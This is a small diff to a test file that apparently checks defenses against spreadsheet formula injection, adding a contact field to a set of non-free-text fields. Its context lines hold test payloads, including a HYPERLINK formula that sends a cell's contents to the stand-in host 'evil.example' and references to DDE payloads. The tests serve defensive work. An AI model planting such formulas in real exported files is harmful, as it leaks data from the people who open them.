@@ -197,8 +197,9 @@ ONE_LINE = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', HYPERLINK, DDE,
 #: starts are tried in multi-line text
 MULTI_LINE = [*ONE_LINE, "\t=1+1", "\n=1+1", "\r\n-1+1", "=1+1\n第二行"]
 PHONES = ["+86 851 0000 0001", "-851-0000-0001", "+86-851-0000-0001"]
-#: Text fields that are not free text: the finding an accepted gap names, a source's file.
-NOT_FREE_TEXT = {(m.AcceptedGap, "finding"), (m.AssetSource, "file")}
+#: Text fields that are not free text: the finding an accepted gap names, a source's file,
+#: the matter ids or duties a contact serves.
+NOT_FREE_TEXT = {(m.AcceptedGap, "finding"), (m.AssetSource, "file"), (m.Contact, "serves")}
 
 
 class _NoAliases(yaml.SafeDumper):
